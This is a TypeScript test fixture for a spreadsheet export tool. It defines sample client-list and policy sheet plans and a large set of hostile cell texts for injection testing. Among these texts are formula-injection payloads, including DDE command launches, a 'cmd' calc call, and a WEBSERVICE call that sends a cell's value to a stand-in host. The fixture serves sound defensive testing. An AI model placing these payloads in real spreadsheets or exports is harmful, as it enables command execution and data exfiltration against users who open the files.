/** Plans to write in tests, and the texts that try to become something else. */
import { formula, type PlanColumn, type SheetPlan } from '../../src/domain/sheets/sheet-plan';

/** A list with every kind of column, a total of formulas, and a heading; `texts` is the first column. */
export function plan(texts: readonly string[], changes: Partial<SheetPlan> = {}): SheetPlan {
  const rows = texts.length;
  const numbers = (make: (i: number) => number): Float64Array => Float64Array.from({ length: rows }, (_cell, i) => make(i));
  const heading = (values: readonly string[]): PlanColumn[] => values.map((value) => ({ kind: 'text', values: [value] }));
  return {
    template: 'T-01',
    name: '客户分级清单',
    widths: [24, 21, 13, 8, 11],
    blocks: [
      { top: 0, left: 0, rows: 1, style: 'title', columns: heading(['存量对公客户分级分类清单']) },
      { top: 1, left: 0, rows: 1, style: 'heading', columns: heading(['客户名称', '客户编号', '日均存款(万元)', '占比', '上次走访日期']) },
      {
        top: 2,
        left: 0,
        rows,
        style: 'body',
        columns: [
          { kind: 'text', values: texts },
          { kind: 'text', values: texts.map((_text, i) => String(913604000000000000n + BigInt(i))) },
          { kind: 'wan', values: numbers((i) => (i % 7 === 3 ? NaN : i + 0.25)) },
          { kind: 'rate', values: numbers((i) => (i % 100) / 100) },
          { kind: 'date', values: numbers((i) => 46_000 + (i % 300)) },
        ],
      },
      {
        top: 2 + rows,
        left: 0,
        rows: 1,
        style: 'total',
        columns: [
          { kind: 'text', values: ['合计'] },
          { kind: 'text', formulas: [formula('="共"&COUNTA(A3:A4)&"户"')] },
          { kind: 'wan', formulas: [formula(`=SUM(C3:C${2 + rows})`)] },
          { kind: 'rate', formulas: [null] },
          { kind: 'date', values: [NaN] },
        ],
      },
    ],
    merges: [{ top: 0, left: 0, rows: 1, columns: 5 }],
    highlights: [{ area: { top: 2, left: 0, rows: Math.max(rows, 1), columns: 1 }, text: '黄金客户', tone: 'gold' }],
    freeze: { rows: 2, columns: 1 },
    print: { orientation: 'landscape', titleRows: { first: 1, last: 1 }, fitWidth: true, footer: '第 &P 页 共 &N 页' },
    statusCell: { row: 0, column: 5 },
    ...changes,
  };
}

/** Two plans that belong together: the first uses names and clauses of the second. */
export function namedPlans(): readonly SheetPlan[] {
  const base = { widths: [12, 12, 12, 12], merges: [], highlights: [], freeze: { rows: 1, columns: 0 }, print: plan([]).print, statusCell: { row: 0, column: 5 } } as const;
  const text = (...values: string[]): PlanColumn => ({ kind: 'text', values });
  const one = (row: number, column: number) => ({ top: row, left: column, rows: 1, columns: 1 });
  return [
    {
      ...base,
      template: 'T-01',
      name: '用',
      blocks: [
        { top: 0, left: 0, rows: 1, style: 'title', columns: [text('用参数的表')] },
        { top: 1, left: 0, rows: 2, style: 'body', columns: [text('A1-09', 'A9-99'), { kind: 'number', formulas: [formula('=P_low*2'), formula('=COUNTA(P_list)')] }] },
      ],
      links: [
        { row: 1, column: 0, to: 'C_A1' },
        { row: 2, column: 0, to: 'C_A9' },
      ],
    },
    {
      ...base,
      template: '政策',
      name: '政策',
      blocks: [
        { top: 0, left: 0, rows: 1, style: 'title', columns: [text('政策')] },
        { top: 1, left: 0, rows: 2, style: 'body', columns: [text('低', '次数'), { kind: 'number', values: [5, 3] }, text('甲', '甲'), text('乙', '')] },
      ],
      names: [
        { name: 'P_low', area: one(1, 1) },
        { name: 'P_list', area: { top: 1, left: 1, rows: 2, columns: 3 } },
        { name: 'C_A1', area: { top: 1, left: 0, rows: 2, columns: 1 } },
      ],
      validations: [
        { area: one(1, 1), rule: { kind: 'decimal', min: 0.5, max: 100 }, message: '0.5 到 100' },
        { area: one(2, 1), rule: { kind: 'whole', min: 1, max: 9 }, message: '1 到 9' },
        { area: one(2, 2), rule: { kind: 'list', from: { top: 1, left: 2, rows: 1, columns: 2 } }, message: '二选一' },
      ],
    },
  ];
}

export const STATUS = { row: 0, column: 5 } as const;

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', ' =', '\u200b=', "'=", "'", '==', '=+', '"=', '\ufeff='];
const BODIES = [
  '1+1',
  'A1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.invalid","点此")',
  'WEBSERVICE("http://example.invalid/"&A2)',
  'SUM(A:A)',
  'DDE("cmd";"/C calc";"x")',
  '2024-01-01',
  '江西某某有限公司',
  '𠮷祥商贸',
  '5',
  'IMPORTXML(1)',
  '{1,2}',
  'TRUE',
  '#REF!',
  '1E5',
  'R1C1',
];
/** Texts that are numbers, dates, truth or nothing when a sheet is left to decide. */
const LOOK_ALIKES = [
  '360426199101010071', '6222021234567890123', '91360400MA35XXXX1X', '000123', '1-2', '3/5', '2024年3月5日', '10:30', '1e10', '5%', '￥12.50', '1,234.50', 'TRUE', 'FALSE', '#N/A', '#REF!', '1/2', '٣٤', '１２３', ' 12 ', '1 1/2', 'Jan 5',
];

/** Every start before every body, and the look-alikes: more than 300 texts. */
export const HOSTILE_TEXTS: readonly string[] = [...STARTS.flatMap((start) => BODIES.map((body) => start + body)), ...LOOK_ALIKES];
